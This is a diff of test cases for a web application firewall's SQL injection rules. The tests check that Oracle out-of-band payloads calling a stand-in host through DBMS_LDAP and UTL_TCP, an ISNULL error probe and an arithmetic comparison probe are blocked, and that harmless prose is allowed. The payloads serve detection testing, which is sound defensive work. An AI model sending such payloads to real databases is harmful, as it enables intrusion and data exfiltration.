@@ -135,3 +135,27 @@ describe('WAF SQLi: PostgreSQL quoting and COPY … PROGRAM, string-arithmetic p
     expectNotFlaggedBy(req, ruleId);
   });
 });
+
+describe('WAF SQLi: Oracle network packages, ISNULL probes and arithmetic comparisons', () => {
+  it.each([
+    ['SYS.DBMS_LDAP.INIT to an attacker host', json({ name: "' AND SYS.DBMS_LDAP.INIT(('x.example',80)) IS NULL--" })],
+    ['UTL_TCP.OPEN_CONNECTION', q("'||UTL_TCP.OPEN_CONNECTION('x.example',80)||'")],
+  ])('blocks %s at sensitivity 70 (SQLI-141)', (_name, req) => {
+    expectBlocked(req, 'SQLI-141');
+  });
+
+  it('blocks AND ISNULL(1/0) after a number at sensitivity 70 (SQLI-112)', () => {
+    expectBlocked(json({ name: '1 AND ISNULL(1/0)' }), 'SQLI-112');
+  });
+
+  it('blocks AND 3*2>5, a constant arithmetic comparison, at sensitivity 70 (SQLI-170)', () => {
+    expectBlocked(form('comment=1%20AND%203*2%3E5'), 'SQLI-170');
+  });
+
+  it.each([
+    ['a package name in prose', q('see the dbms_ldap package docs'), 'SQLI-141'],
+    ['a product formula without a logic word', q('3*2>5 is true'), 'SQLI-170'],
+  ])('allows %s', (_name, req, ruleId) => {
+    expectNotFlaggedBy(req, ruleId);
+  });
+});
